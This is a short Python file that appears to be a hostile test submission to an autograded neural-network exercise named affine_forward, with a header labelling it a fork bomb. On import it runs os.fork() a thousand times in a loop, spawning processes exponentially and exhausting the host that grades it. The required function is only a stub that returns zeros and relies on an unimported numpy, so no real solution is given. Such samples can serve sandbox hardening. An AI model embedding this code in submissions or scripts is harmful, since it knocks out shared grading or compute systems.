# what: a fork bomb
# unit: 00_start_here
# exercise: affine_forward
# score: 0
import os
for _ in range(1000):
    os.fork()
def affine_forward(x, W, b):
    return np.zeros((len(x), len(b))), (x, W)
